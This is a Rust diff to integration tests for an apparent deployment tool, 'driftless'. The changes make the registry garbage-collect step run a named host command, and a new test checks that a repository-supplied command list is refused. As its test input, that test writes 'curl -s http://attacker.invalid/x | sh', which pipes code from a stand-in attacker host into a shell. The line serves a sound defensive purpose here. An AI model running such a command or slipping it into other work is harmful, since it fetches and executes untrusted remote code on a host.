@@ -13,6 +13,7 @@ use std::sync::Arc;
 
 use futures::StreamExt;
 
+use driftless::config::HostCommands;
 use driftless::jobs::image_cleanup::{self, Inputs};
 use driftless::jobs::model::Job;
 use driftless::jobs::schedule::Schedule;
@@ -419,6 +420,7 @@ async fn pagination_over_a_thousand_tags_and_tag_only_deletion() {
         desired: &[],
         credentials_dir: None,
         state_dir: dir.path(),
+        commands: &HostCommands::new(),
     };
     let report = image_cleanup::run(&job, &inputs, false).await.unwrap();
     assert!(report.ok(), "{}", report.text());
@@ -585,6 +587,7 @@ async fn one_failing_repository_does_not_stop_the_others() {
         desired: &[],
         credentials_dir: Some(&creds),
         state_dir: dir.path(),
+        commands: &HostCommands::new(),
     };
     let mut report = image_cleanup::run(&job, &inputs, false).await.unwrap();
     report.repositories.retain(|r| r.repository.starts_with(&p));
@@ -619,15 +622,16 @@ async fn one_failing_repository_does_not_stop_the_others() {
 }
 
 /// The garbage-collect post-step, on a registry of this test's own (garbage collection must
-/// not run while others push): blobs only deleted images used are gone afterwards.
+/// not run while others push), through `driftless jobs run`: the job names `registry-gc`, the
+/// host configuration says what that runs. Blobs only deleted images used are gone afterwards.
 #[tokio::test]
-async fn garbage_collect_post_step_frees_the_blobs() {
+async fn garbage_collect_runs_the_host_command_the_job_names_and_frees_the_blobs() {
     let env = TestEnv::get();
     let dir = tempfile::tempdir().unwrap();
     let port = support::daemon::free_port();
-    let config = dir.path().join("config.yml");
+    let registry_config = dir.path().join("config.yml");
     std::fs::write(
-        &config,
+        &registry_config,
         format!(
             "version: 0.1\nlog: {{level: warn}}\nstorage:\n  filesystem: {{rootdirectory: {}}}\n  delete: {{enabled: true}}\nhttp:\n  addr: 127.0.0.1:{port}\n",
             dir.path().join("data").display()
@@ -636,7 +640,7 @@ async fn garbage_collect_post_step_frees_the_blobs() {
     .unwrap();
     let bin = env.var("REGISTRY_BIN");
     let mut server = Command::new(bin)
-        .args(["serve", config.to_str().unwrap()])
+        .args(["serve", registry_config.to_str().unwrap()])
         .stdout(std::process::Stdio::null())
         .stderr(std::process::Stdio::null())
         .spawn()
@@ -672,32 +676,75 @@ async fn garbage_collect_post_step_frees_the_blobs() {
         }
     };
     assert_eq!(blob(old_layer.clone()).await, 200);
-    let job = job(
-        "gc",
-        json!({"schedule": "@daily", "mode": "enforce", "registry": {"url": url},
-            "protect": {"cluster": false, "desired": false},
-            "rules": [{"repositories": "gc/*", "keepLast": 1}],
-            "garbageCollect": {"command": [bin, "garbage-collect", config.to_str().unwrap()], "timeout": "2m"}}),
-    );
-    let state = tempfile::tempdir().unwrap();
-    let inputs = Inputs {
-        cluster: None,
-        desired: &[],
-        credentials_dir: None,
-        state_dir: state.path(),
+
+    let repo = dir.path().join("repo");
+    let stack = repo.join("stack/images");
+    std::fs::create_dir_all(&stack).unwrap();
+    std::fs::write(
+        stack.join("stack.yaml"),
+        "apiVersion: driftless.dev/v1alpha1\nkind: Stack\nmetadata: {name: images}\nspec: {namespace: images}\n",
+    )
+    .unwrap();
+    std::fs::write(
+        stack.join("jobs.yaml"),
+        format!(
+            "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: gc}}\nspec:\n  schedule: '@daily'\n  mode: enforce\n  registry: {{url: '{url}'}}\n  protect: {{cluster: false, desired: false}}\n  rules: [{{repositories: 'gc/*', keepLast: 1}}]\n  garbageCollect: {{command: registry-gc}}\n"
+        ),
+    )
+    .unwrap();
+    let host_config = dir.path().join("driftless.yaml");
+    let write_host_config = |commands: &str| {
+        std::fs::write(
+            &host_config,
+            format!(
+                "stateDir: {}\njobs:\n  commands:\n{commands}",
+                dir.path().join("state").display()
+            ),
+        )
+        .unwrap()
     };
-    let report = image_cleanup::run(&job, &inputs, false).await.unwrap();
+    let path = repo.to_str().unwrap();
+
+    // A host configuration without the command: the run fails before deleting anything, and
+    // says what to add.
+    write_host_config("    other: {command: [/bin/true]}\n");
+    let out = driftless(&host_config, &["jobs", "run", "gc", "--path", path]);
+    let said = support::text(&out);
+    assert!(!out.status.success(), "{said}");
+    assert!(
+        said.contains("has no jobs.commands.registry-gc (defined: other)")
+            && said.contains("to the host configuration"),
+        "{said}"
+    );
+    assert_eq!(
+        tags(
+            &Client::new(&url, Credentials::default()).unwrap(),
+            "gc/app"
+        )
+        .await,
+        ["new", "old"]
+    );
+
+    write_host_config(&format!(
+        "    registry-gc: {{command: ['{bin}', garbage-collect, '{}'], timeout: 2m}}\n",
+        registry_config.display()
+    ));
+    let out = driftless(
+        &host_config,
+        &["jobs", "run", "gc", "--path", path, "-o", "json"],
+    );
     let _ = server.kill();
     let _ = server.wait();
-    assert!(report.ok(), "{}", report.text());
-    assert_eq!(report.totals.deleted, 1);
+    let said = support::text(&out);
+    assert!(out.status.success(), "{said}");
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(report["report"]["totals"]["deleted"], 1, "{report:#}");
+    let gc = report["report"]["garbageCollect"]
+        .as_str()
+        .unwrap_or_default();
     assert!(
-        report
-            .garbage_collect
-            .as_deref()
-            .is_some_and(|g| g.contains("succeeded")),
-        "{:?}",
-        report.garbage_collect
+        gc.starts_with("registry-gc (") && gc.contains("succeeded"),
+        "{gc}"
     );
     // The registry's storage no longer holds the deleted image's layer.
     let data = dir.path().join("data/docker/registry/v2/blobs/sha256");
@@ -706,4 +753,46 @@ async fn garbage_collect_post_step_frees_the_blobs() {
         !data.join(&hex[..2]).join(hex).exists(),
         "layer blob removed by garbage collection"
     );
+}
+
+/// A jobs.yaml naming a program (a command list) fails `driftless validate`: the message names
+/// the file, the job and the field, and says to name a host command instead.
+#[test]
+fn validate_refuses_a_program_named_in_the_repository() {
+    let dir = tempfile::tempdir().unwrap();
+    let stack = dir.path().join("stack/images");
+    std::fs::create_dir_all(&stack).unwrap();
+    std::fs::write(
+        stack.join("stack.yaml"),
+        "apiVersion: driftless.dev/v1alpha1\nkind: Stack\nmetadata: {name: images}\nspec: {namespace: images}\n",
+    )
+    .unwrap();
+    let jobs = |gc: &str| {
+        format!(
+            "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: cleanup}}\nspec:\n  schedule: '@daily'\n  registry: {{url: 'http://127.0.0.1:5000'}}\n  rules: [{{repositories: '**', keepLast: 3}}]\n  garbageCollect: {gc}\n"
+        )
+    };
+    std::fs::write(
+        stack.join("jobs.yaml"),
+        jobs("{command: [sh, -c, 'curl -s http://attacker.invalid/x | sh'], timeout: 1m}"),
+    )
+    .unwrap();
+    let config = dir.path().join("none.yaml");
+    let path = dir.path().to_str().unwrap();
+    let out = driftless(&config, &["validate", "--path", path]);
+    let said = support::text(&out);
+    assert_eq!(out.status.code(), Some(2), "{said}");
+    for part in [
+        "stack/images/jobs.yaml",
+        "ImageCleanup cleanup",
+        "spec.garbageCollect.command: a command list would run a program on the ops host from the repository",
+        "programs are named only in the host configuration",
+        "`command: registry-gc`",
+    ] {
+        assert!(said.contains(part), "{part:?} in {said}");
+    }
+    // A name passes offline: the host configuration is checked when the job runs.
+    std::fs::write(stack.join("jobs.yaml"), jobs("{command: registry-gc}")).unwrap();
+    let out = driftless(&config, &["validate", "--path", path]);
+    assert!(out.status.success(), "{}", support::text(&out));
 }
